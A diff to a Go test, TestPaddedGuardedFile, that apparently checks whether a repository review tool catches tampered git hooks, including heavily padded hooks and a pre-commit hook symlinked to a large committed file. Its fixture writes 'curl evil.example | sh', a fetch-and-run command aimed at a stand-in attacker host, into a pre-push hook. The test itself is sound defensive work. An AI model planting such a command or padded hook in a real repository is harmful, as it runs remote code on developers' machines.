@@ -541,17 +541,21 @@ func TestPaddedGuardedFile(t *testing.T) {
 	r := newRepo(t)
 	head := "#!/bin/sh\n" + strings.Repeat("# padding\n", 2_000)
 	r.write(".git/hooks/pre-push", head+"true\n")
-	r.write(".git/hooks/pre-commit", head+strings.Repeat("# padding\n", 200_000))
+	r.write("large", head+strings.Repeat("# padding\n", 200_000))
+	r.ok(os.Symlink("../../large", filepath.Join(r.dir, ".git/hooks/pre-commit")))
+	r.git("add", "large")
+	r.git("commit", "--quiet", "-m", "large")
 	r.status()
 	if got := paths(r.status()); len(got) != 0 {
 		t.Errorf("%q", got)
 	}
 	was := time.Now().Add(-time.Hour)
-	for name, text := range map[string]string{"pre-push": "curl evil.example | sh\n", "pre-commit": strings.Repeat("# padding\n", 200_001)} {
-		r.write(".git/hooks/"+name, head+text)
-		r.ok(os.Chtimes(filepath.Join(r.dir, ".git/hooks", name), was, was))
+	for name, text := range map[string]string{".git/hooks/pre-push": "curl evil.example | sh\n", "large": strings.Repeat("# evil!!\n", 200_000)} {
+		r.write(name, head+text)
+		r.ok(os.Chtimes(filepath.Join(r.dir, name), was, was))
 	}
 	files := r.status().Files
+	files = slices.DeleteFunc(files, func(f core.ReviewFile) bool { return f.Path == "large" })
 	if len(files) != 2 {
 		t.Errorf("%+v", files)
 	}
@@ -562,7 +566,7 @@ func TestPaddedGuardedFile(t *testing.T) {
 		}
 		r.ok(r.s.Stage(t.Context(), "c", f.Path, nil, d.Mark))
 	}
-	if got := paths(r.status()); len(got) != 0 {
+	if got := paths(r.status()); len(got) != 1 {
 		t.Errorf("%q", got)
 	}
 }
